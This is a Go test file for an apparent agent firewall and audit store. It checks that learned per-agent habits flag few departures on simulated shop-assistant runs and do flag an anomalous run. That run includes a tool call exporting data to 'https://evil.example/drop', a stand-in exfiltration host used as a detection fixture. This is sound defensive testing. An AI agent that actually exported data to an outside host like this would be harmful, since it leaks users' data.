package store_test

import (
	"context"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"callgate/audit"
	"callgate/firewall"
	"callgate/identity"

	"github.com/google/go-cmp/cmp"
)

// What runs did is the same however the records came, and does not depend on batches.
func TestHabitsAreThoseOfTheRuns(t *testing.T) {
	const begin = 1795420800000000
	var records []audit.Record
	n := 0
	call := func(run, kind, target, resource string, at int, hosts ...string) {
		n++
		id := fmt.Sprint("c", n)
		r := audit.Record{Type: audit.Opened, At: begin + int64(at), Call: id, Run: run, Agent: "agent:bot", Kind: kind, Target: target, Resource: resource, Effect: "allow", Env: &audit.Env{Hosts: hosts}}
		if resource == "never" {
			r.Type, r.Effect, r.Outcome = audit.Refused, "deny", "denied"
		}
		records = append(records, r)
		if r.Type == audit.Opened {
			cost := int64(7)
			records = append(records, audit.Record{Type: audit.Closed, At: begin + int64(at), Call: id, Run: run, Outcome: "ok", Labels: []string{"untrusted"}, Usage: &audit.Usage{Input: 1}, Cost: &cost})
		}
	}
	for i, run := range []string{"r1", "r2", "r3"} {
		call(run, "model", "openai", "gpt", 10*i)
		call(run, "tool", "shop", "find", 10*i+1, "a.example")
		call(run, "tool", "shop", "buy", 10*i+2)
		call(run, "tool", "shop", "never", 10*i+3)
	}
	call("r3", "tool", "shop", "pay", 40, "b.example")
	call("r2", "tool", "shop", "buy", 41)
	want := map[string]*audit.Habit{"agent:bot": {
		Agent: "agent:bot", Runs: 3, Calls: 5, Cost: 28,
		Traits: map[string]map[string]int{
			"tool": {"shop/find": 3, "shop/buy": 3}, "model": {"openai/gpt": 3}, "host": {"a.example": 3}, "label": {"untrusted": 3},
			"order": {"start\nshop/find": 3, "shop/find\nshop/buy": 3},
		},
		Novel: map[string]int{"tool": 1, "host": 1, "order": 2},
	}}
	for _, size := range []int{1, 3, 100} {
		h := open(t, t.TempDir())
		for some := records; len(some) > 0; {
			k := min(size, len(some))
			h.put(t, some[:k]...)
			some = some[k:]
		}
		got, err := h.index.Habits(t.Context(), time.UnixMicro(begin))
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%d at once (-want +got)\n%s", size, diff)
		}
		if got, err = h.index.Habits(t.Context(), time.UnixMicro(begin+41)); err != nil || len(got) != 1 || got["agent:bot"].Runs != 1 {
			t.Errorf("of the last run: %+v, %v", got, err)
		}
	}
}

// anything is a policy that allows everything.
type anything struct{}

func (anything) Decide(*firewall.Call) firewall.Decision {
	return firewall.Decision{Effect: firewall.Allow, Rule: "R", Policy: "p"}
}
func (anything) May(*identity.Principal, string, string) firewall.Answer { return firewall.Yes }
func (anything) Member(_, _, _ string) bool                              { return false }
func (anything) Groups(_, _ string) []string                             { return nil }
func (anything) Names(*identity.Principal, string, string) bool          { return true }

// nothing is what everything answers.
type nothing struct{}

func (nothing) Forward(context.Context, *firewall.Call) firewall.Events {
	return func(yield func(firewall.Event, error) bool) {
		yield(firewall.Event{Body: firewall.Body{JSON: []byte(`{}`)}, Last: true}, nil)
	}
}
func (nothing) Read(*firewall.Event) {}

// A shop assistant goes about its work: it looks for things, often at some of them, and
// buys some. Now and then it does what it seldom does.
func TestOrdinaryRunsTellNextToNothing(t *testing.T) {
	h := open(t, t.TempDir())
	now := time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC)
	clock := func() time.Time { return now }
	gate := firewall.New(firewall.Config{
		Verify: func(context.Context, string, string) (identity.Principal, error) {
			return identity.Principal{Tenant: "default", Subject: "agent:bot"}, nil
		},
		Log: h.ledger, Runs: firewall.NewRuns(0, new(firewall.Memory), clock), Budgets: firewall.NewBudgets(clock), Approvals: firewall.NewApprovals(new(firewall.Memory), 0, clock),
		Stops: new(identity.Revocations), Now: clock, Logger: slog.New(slog.DiscardHandler),
	}, &firewall.Law{Policy: anything{}})
	do := func(kind firewall.Kind, target, name, args string) {
		body, err := firewall.ParseBody([]byte(`{"arguments":`+args+`}`), firewall.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		call := &firewall.Call{Kind: kind, Target: target, Resource: name, Method: "chat", Token: "t", Body: body}
		if kind == firewall.Tool {
			call.Method, call.ArgsAt = "tools/call", "arguments"
		}
		if err := gate.Do(t.Context(), call, nothing{}, func(firewall.Event) error { return nil }); err != nil {
			t.Fatal(err)
		}
		now = now.Add(time.Second)
	}
	r := rand.New(rand.NewPCG(11, 24))
	often := func(percent int) bool { return r.IntN(100) < percent }
	tool := func(name string) {
		host := []string{"shop.example", "cdn.example", "img.example"}[r.IntN(3)]
		if often(1) {
			host = "seldom.example"
		}
		do(firewall.Model, "openai", "gpt", `{}`)
		do(firewall.Tool, "shop", name, `{"at":"https://`+host+`/"}`)
	}
	ordinary := func() {
		now = now.Add(time.Hour)
		for range 1 + r.IntN(4) {
			tool("find")
			for often(60) {
				tool("view")
			}
		}
		if often(50) {
			tool("buy")
			tool("pay")
		}
		if often(3) {
			tool("refund")
		}
	}
	learn := func() {
		if _, _, err := h.index.Sync(t.Context()); err != nil {
			t.Fatal(err)
		}
		habits, err := h.index.Habits(t.Context(), now.Add(-14*24*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		x := &firewall.Expectations{Agents: make(map[string]*firewall.Envelope)}
		for agent, habit := range habits {
			if e := firewall.Learn(habit, 20); e != nil {
				x.Agents[agent] = e
			}
		}
		gate.SetExpectations(x)
	}
	told := func(since time.Time) []audit.Drift {
		if _, _, err := h.index.Sync(t.Context()); err != nil {
			t.Fatal(err)
		}
		list, err := h.index.Drift(t.Context(), "agent:bot", "", since, time.Time{}, 1000)
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	for range 19 {
		ordinary()
		learn()
	}
	if list := told(time.Time{}); len(list) > 0 {
		t.Errorf("before there are enough runs: %+v", list)
	}
	ordinary()
	began := now
	departed := make(map[string]bool)
	for range 100 {
		learn()
		ordinary()
	}
	for _, d := range told(began) {
		departed[d.Run] = true
		t.Logf("an ordinary run: %s: %s, expected %s", d.Kind, d.Seen, d.Expected)
	}
	t.Logf("%d of 100 ordinary runs told a departure", len(departed))
	if len(departed) > 10 {
		t.Error("that is too many")
	}

	learn()
	began = now
	now = now.Add(time.Hour)
	do(firewall.Model, "other", "big", `{}`)
	do(firewall.Tool, "shop", "export", `{"to":"https://evil.example/drop"}`)
	do(firewall.Tool, "shop", "find", `{}`)
	do(firewall.Tool, "shop", "pay", `{}`)
	for range 200 {
		do(firewall.Tool, "shop", "find", `{}`)
	}
	var kinds []string
	for _, d := range told(began) {
		kinds = append(kinds, d.Kind)
	}
	for _, want := range firewall.DriftKinds() {
		if got := strings.Contains(strings.Join(kinds, " "), want); got == (want == "labels") { // it has read nothing
			t.Errorf("a run that departs tells %q: %s", kinds, want)
		}
	}
}
